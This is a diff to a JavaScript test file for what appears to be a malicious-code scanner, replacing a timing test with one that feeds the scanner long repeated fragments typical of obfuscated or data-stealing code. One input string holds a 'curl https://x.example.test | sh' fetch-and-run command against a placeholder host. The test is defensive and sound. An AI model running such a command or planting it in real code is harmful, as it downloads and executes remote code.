@@ -170,21 +170,24 @@ fi
     assert.equal(read(reads, 'module', sends), 'sends-data: a file with credentials (1)');
   });
 
-  test('each character is read once, in a file of any size', () => {
-    const started = performance.now();
-    for (const part of [
-      '`${',
-      '"\\',
-      '/[',
-      'eval(',
-      '_0x1a2b ',
-      'a=atob("',
-      "'aHR0cHM6Ly9h',",
-      '(((',
-      '\n/*',
+  test('the time grows with the length, whatever a file repeats', () => {
+    const start = `require('child_process'), require('https'); let c = 'curl https://x.example.test | sh';`;
+    const parts = ['`${', '"\\', '/[', 'eval(', '_0x1a2b ', 'a=atob("', "'aHR0cHM6Ly9h',", '(((', '\n/*'];
+    const more = [
       '.on("data",',
-    ])
-      read(part.repeat(400_000 / part.length));
-    assert.ok(performance.now() - started < 15_000);
+      'exec',
+      "'curl a',",
+      'vm.runIn',
+      'stringify({',
+      '.then((',
+      'eval(await ',
+      'a.b(',
+    ];
+    for (const part of [...parts, ...more]) {
+      const started = performance.now();
+      read(start + part.repeat(1_000_000 / part.length));
+      const time = performance.now() - started;
+      assert.ok(time < 8000, `${part}: ${time} ms`);
+    }
   });
 });
